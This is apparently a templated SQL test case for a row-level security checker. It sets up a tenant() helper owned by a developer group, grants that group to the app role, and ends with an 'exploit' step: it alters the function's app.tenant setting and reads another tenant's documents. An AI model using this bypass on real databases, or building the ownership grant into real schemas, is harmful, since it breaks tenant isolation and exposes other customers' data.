-- The helper belongs to a group of the app role.
-- object: public.tenant()
-- object: role:{app}
-- base: text
--- setup
RESET ROLE;
CREATE ROLE {devs} NOLOGIN;
CREATE ROLE {dev} LOGIN;
SET ROLE {owner};
DROP POLICY own ON documents;
CREATE FUNCTION tenant() RETURNS text LANGUAGE sql STABLE
    AS $$ SELECT NULLIF(current_setting('app.tenant', true), '') $$;
CREATE POLICY own ON documents USING (account_id = (SELECT tenant()));
RESET ROLE;
ALTER FUNCTION tenant() OWNER TO {devs};
--- leak
RESET ROLE;
GRANT {devs} TO {app};
--- twin
RESET ROLE;
GRANT {devs} TO {dev};
--- exploit
ALTER FUNCTION tenant() SET app.tenant = 'bolt';
SELECT id FROM documents WHERE account_id = 'bolt';
